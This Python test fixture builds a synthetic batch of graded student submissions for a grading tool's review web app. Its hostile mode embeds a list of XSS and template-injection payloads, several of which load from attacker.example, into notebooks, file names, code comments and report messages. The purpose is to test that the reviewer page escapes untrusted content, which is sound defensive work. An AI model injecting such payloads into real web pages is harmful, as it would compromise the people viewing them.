"""A class for ``grader review`` made without grading: reports, sources, clusters and similar pairs
written as a batch writes them, so that the review app's tests and bench/review.py need no sandbox.

``make_class(tmp, n)`` writes ``tmp/source/<name>/`` (the example submissions' files, one kind
each: correct, a catalogue mistake, or an unknown mistake of one of two clusters) and the output
folder ``tmp/out`` (its reports, ``similarity.csv``, ``.sources/source.json``); ``hostile=True``
adds submissions whose code, notebook outputs, file names and metadata carry script and markup.
Returns the output folder. ``serving(out)`` serves it as ``grader review`` does.
"""

from __future__ import annotations

import base64
import json
import shutil
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

from grader.report.model import GradeReport
from grader.report.outdir import report_path, write_record
from grader.review.security import Keys
from grader.spec.rubric.load import load_rubric
from tests.helpers import EXAMPLES, RUBRIC

#: the kinds of submission, in turn: (the example it copies, the mistake id, the part it is in)
KINDS = [("correct", None, None), ("divide-by-dk", "divide-by-d-k", "scaling"),
         ("sqrt-d-model", "sqrt-d-model", "scaling"), ("softmax-overflow", "softmax-overflow", "softmax"),
         ("correct", "unrecognised:a", "softmax"), ("correct", "unrecognised:b", "variance")]

#: what each catalogue mistake's diagnosis says (as the batch would word it for GPT-2 small)
SAID = {
    "divide-by-d-k": ("divides by d_k = 64, not by √d_k = 8", "d_k = 64 で割っています。割る数は √d_k = 8 です"),
    "sqrt-d-model": ("divides by √d_model = √768 ≈ 27.7, not by √d_k = √64 = 8",
                     "√d_model = √768 ≈ 27.7 で割っています。割る数は √d_k = √64 = 8 です"),
    "softmax-overflow": ("softmax gives nan for scores near 1000: subtract each row's maximum first",
                         "1000 近くのスコアで softmax が nan になります。先に各行の最大値を引きます"),
}

#: what a student may hand in to attack the reviewer's page: script in every place a page shows
PAYLOADS = [
    "<script>window.__pwned=(window.__pwned||0)+1</script>",
    "<img src=x onerror=\"window.__pwned=(window.__pwned||0)+1\">",
    "<svg onload=\"window.__pwned=(window.__pwned||0)+1\"></svg>",
    "javascript:window.__pwned=1",
    "<iframe src=\"https://attacker.example/\"></iframe>",
    "<a href=\"https://attacker.example/x\">click</a>",
    "[link](javascript:window.__pwned=1)",
    "<link rel=stylesheet href=\"https://attacker.example/s.css\">",
    "\"><script src=\"https://attacker.example/a.js\"></script>",
    "<style>@import 'https://attacker.example/i.css';</style>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/\">",
    "<object data=\"https://attacker.example/o\"></object>",
    "{{ 7*7 }}{% raw %}",
    "<base href=\"https://attacker.example/\">",
    "<form action=\"https://attacker.example/\"><button>x</button></form>",
]


def _report(name: str, kind: int, rubric_parts: list[Any], who: str = "", payload: str = "") -> dict[str, Any]:
    """A report as a batch writes it; ``who`` the student's name, ``payload`` what their code made the
    messages say (a diagnosis quotes the student's values, never their name)."""
    example, mistake, part = KINDS[kind]
    parts, tests, mistakes = [], [], []
    for p in rubric_parts:
        lost = 4.0 if p.id == part else 0.0
        parts.append({"id": p.id, "score": 10.0 - lost, "max_score": 10.0, "title": {"en": p.title.en, "ja": p.title.ja}})
        for i in range(5):
            failed = p.id == part and i < 2
            tests.append({"id": f"public/test_{p.id}.py::test_{i}", "part": p.id,
                          "status": "failed" if failed else "passed", "max_score": 2.0, "score": 0.0 if failed else 2.0,
                          "visibility": "visible", "suite": "public",
                          "title": {"en": f"{p.id} case {i}", "ja": f"{p.id} の場合 {i}"},
                          "feedback": {"en": f"returned 64.0; expected 8.0 {payload}", "ja": f"64.0 を返しました。期待値 8.0 {payload}"}
                          if failed else {}, "expected": "8.0" if failed else None, "actual": "64.0" if failed else None})
    if mistake and not mistake.startswith("unrecognised"):
        en, ja = SAID[mistake]
        mistakes.append({"id": mistake, "part": part, "message": {"en": f"{en} {payload}", "ja": f"{ja} {payload}"},
                         "evidence": {"got": 64.0}})
    elif mistake:
        func = "softmax" if mistake.endswith("a") else "dot_product_variance"
        value = 0.25 if mistake.endswith("a") else 3.0
        mistakes.append({"id": "unrecognised", "part": part, "message": {"en": f"unknown {payload}", "ja": f"不明 {payload}"},
                         "evidence": {"functions": [func], "probes": {func: [{"call": f"{func}(x)", "values": [value]}]}}})
    score = sum(p["score"] for p in parts)
    report = GradeReport.from_dict({
        "schema": 1, "assignment": "chapter07", "submission": name, "score": score, "max_score": 10.0 * len(parts),
        "passed": True, "pass_mark": 60.0, "parts": parts, "tests": tests, "mistakes": mistakes,
        "sandbox": {"level": "subprocess"}, "errors": [], "seed": 5, "graded_at": "2026-12-01T00:00:00+00:00",
        "student": {"name": who} if who else {}})
    return report.to_dict()  # type: ignore[return-value]


def _notebook(payload: str) -> dict[str, Any]:
    png = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\0" * 16).decode()
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' onload='window.__pwned=1'><script>window.__pwned=1</script>{payload}</svg>"
    return {"nbformat": 4, "nbformat_minor": 5,
            "metadata": {"kernelspec": {"name": payload, "display_name": payload}, "title": payload, "authors": [{"name": "山田 " + payload}]},
            "cells": [
                {"cell_type": "markdown", "metadata": {}, "source": [payload]},
                {"cell_type": "code", "metadata": {"tags": [payload]}, "execution_count": 1, "source": [
                    "def head_dim(d_model, n_heads):\n", f"    # {payload}\n", "    return d_model // n_heads\n"],
                 "outputs": [
                     {"output_type": "stream", "name": "stdout", "text": [payload]},
                     {"output_type": "display_data", "metadata": {}, "data": {
                         "text/html": [payload], "application/javascript": "window.__pwned=1",
                         "image/svg+xml": svg, "text/markdown": payload, "image/png": png,
                         "text/plain": [payload]}},
                     {"output_type": "error", "ename": payload, "evalue": payload, "traceback": [payload]},
                 ]}]}


def make_class(tmp: Path, n: int, *, hostile: bool = False, rubric: Path = RUBRIC) -> Path:
    """The output folder of a synthesised batch of ``n`` submissions (and ``hostile``'s corpus)."""
    parts = list(load_rubric(rubric).parts)
    source, out = tmp / "source", tmp / "out"
    source.mkdir(parents=True, exist_ok=True)
    (out / "reports").mkdir(parents=True, exist_ok=True)
    names: list[tuple[str, int]] = []
    for i in range(n):
        kind = i % len(KINDS)
        name = f"s{i:03d}-{KINDS[kind][0]}-{kind}"
        shutil.copytree(EXAMPLES / KINDS[kind][0], source / name)
        if KINDS[kind][1] == "unrecognised:a":  # (an edit of the code, for a diff against the reference)
            path = source / name / "softmax.py"
            path.write_text(path.read_text(encoding="utf-8").replace("def softmax", "# changed\ndef softmax", 1),
                            encoding="utf-8")
        names.append((name, kind))
    if hostile:
        for i, payload in enumerate(PAYLOADS * 2):
            japanese = "山田太郎" if i % 2 else "佐藤花子"
            if i < len(PAYLOADS):  # a notebook carrying the payload in sources, outputs and metadata
                name = f"h{i:02d}-nb"
                (source / f"{name}.ipynb").write_text(json.dumps(_notebook(payload)), encoding="utf-8")
            else:  # a folder whose code, and an extra file's name, carry it
                name = f"h{i:02d}-dir"
                shutil.copytree(EXAMPLES / "correct", source / name)
                path = source / name / "scaling.py"
                path.write_text(f"# {payload}\n" + path.read_text(encoding="utf-8"), encoding="utf-8")
                (source / name / f"{payload[:40].replace('/', '_')}.txt").write_text(payload, encoding="utf-8")
            names.append((name, i % len(KINDS)))
            write_record(report_path(out, name), _report(name, i % len(KINDS), parts, f"{japanese} {payload}", payload))
    for name, kind in names:
        if not report_path(out, name).exists():
            write_record(report_path(out, name), _report(name, kind, parts))
    rows = ["submission_a,submission_b,group,code_score,behaviour_score,evidence"]
    for a, b in zip(names[0:6:2], names[1:6:2]):
        rows.append(f"{a[0]},{b[0]},1,0.91,0.0,code: softmax")
    (out / "similarity.csv").write_text("\n".join(rows) + "\n", encoding="utf-8")
    (out / ".sources").mkdir(exist_ok=True)
    (out / ".sources" / "source.json").write_text(json.dumps({"source": str(source.resolve())}), encoding="utf-8")
    return out


@contextmanager
def serving(out: Path, *, blind: bool = False, by: str = "tanaka", lang: str = "en",
            rubric: Path = RUBRIC) -> Iterator[tuple[str, Keys]]:
    """``grader review OUT`` served in this process (uvicorn, a thread): (its base URL, its keys)."""
    from grader.review.serve import server

    running, sock, _ = server(out, load_rubric(rubric), port=0, blind=blind, by=by, lang=lang)
    thread = threading.Thread(target=running.run, kwargs={"sockets": [sock]}, daemon=True)
    thread.start()
    try:
        while not running.started:
            time.sleep(0.02)
        yield f"http://127.0.0.1:{sock.getsockname()[1]}", running.config.app.keys
    finally:
        running.should_exit = True
        thread.join(timeout=10)
